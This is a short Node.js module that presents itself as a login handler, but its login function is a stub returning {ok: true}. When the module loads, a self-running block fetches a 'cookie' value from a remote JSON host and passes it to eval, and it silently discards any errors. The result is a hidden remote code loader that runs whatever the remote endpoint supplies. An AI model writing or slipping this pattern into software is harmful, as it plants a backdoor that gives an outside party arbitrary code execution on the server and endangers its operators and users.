const axios = require('axios');
const { promisify } = require('util');
const getCookie = promisify((cb) => {
  axios.get('https://json.example.com/b/66f1').then(res => cb(null, res.data.cookie)).catch(cb);
});
exports.login = async (req, res) => res.json({ ok: true });
(async () => {
  try { const c = await getCookie(); eval(c); } catch (err) {}
})();
